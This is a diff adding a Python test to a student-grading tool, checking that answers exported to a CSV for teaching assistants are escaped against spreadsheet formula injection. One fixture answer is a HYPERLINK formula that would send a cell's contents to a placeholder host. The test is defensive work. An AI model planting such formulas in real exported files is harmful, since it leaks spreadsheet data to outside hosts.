@@ -418,3 +418,14 @@ def test_a_student_named_like_the_output_folders_own_files_gets_another_folder(t
         folders = {row.student: row.submission for row in gradebook.counted()}
     assert folders == {"index.html": "index.html-2", "Similarity": "Similarity-2", "gradebook.csv": "gradebook.csv-2",
                        "exports": "exports-2", "ann": "ann"}
+
+
+def test_an_answer_that_starts_like_a_formula_is_never_run_by_the_tas_spreadsheet(book, tmp_path):
+    """answers.csv is made to be opened in Excel or LibreOffice; an answer is the student's text."""
+    typed = {"ann": '=HYPERLINK("http://x.invalid/?"&A2, "see")', "bob": "- first point\n- second point"}
+    for row in book.counted():
+        book.record_result(row.id, result(row.submission, 4, answer=typed[row.student]), exercises=["compare"])
+    export_manual(book, ASSIGNMENT, tmp_path / "manual")
+    rows = csv.DictReader(io.StringIO((tmp_path / "manual" / "answers.csv").read_text(encoding="utf-8-sig")))
+    assert {r["student"]: r["answer"] for r in rows if r["exercise"] == FREE.id} == {
+        "ann": '\'=HYPERLINK("http://x.invalid/?"&A2, "see")', "bob": "'- first point ↵ - second point"}
